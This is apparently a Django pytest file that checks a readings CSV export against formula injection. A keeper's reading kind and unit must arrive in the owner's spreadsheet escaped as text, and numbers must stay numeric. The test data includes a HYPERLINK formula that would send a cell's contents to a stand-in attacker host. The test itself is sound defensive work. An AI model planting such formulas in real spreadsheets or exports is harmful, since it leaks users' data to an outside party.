"""The readings CSV guards formula-looking text another party wrote (review finding 1): a keeper's reading kind or
unit reaches the owner's spreadsheet as text, never as a formula; values stay numbers, negative ones included."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from credentials import keepers
from credentials.models import AccessCredential
from tests.conftest import api_for, client_for

pytestmark = [pytest.mark.django_db, pytest.mark.needs("credentials")]


def _csv(owner, twin) -> list[list[str]]:
    response = client_for(owner).get(reverse("readings-csv", args=[twin.slug]))
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_a_keepers_formula_kind_and_unit_reach_the_owners_csv_guarded(grinder, alice, bob):
    keepers.access_credential_issue(
        twin=grinder,
        issued_by=alice,
        holder=bob,
        role=AccessCredential.Role.KEEPER,
        capabilities=keepers.KEEPER_CAPABILITIES,
        expires_at=None,
    )
    kind = '=HYPERLINK("http://ev.il/?"&A2,"x")'
    posted = api_for(bob).post(
        f"/api/things/{grinder.slug}/readings/", {"value": -3.5, "kind": kind, "unit": "=1+1"}, format="json"
    )
    assert posted.status_code == 201, posted.content
    row = _csv(alice, grinder)[1]
    assert (row[3], row[4], row[5]) == ("'" + kind, "-3.5", "'=1+1")
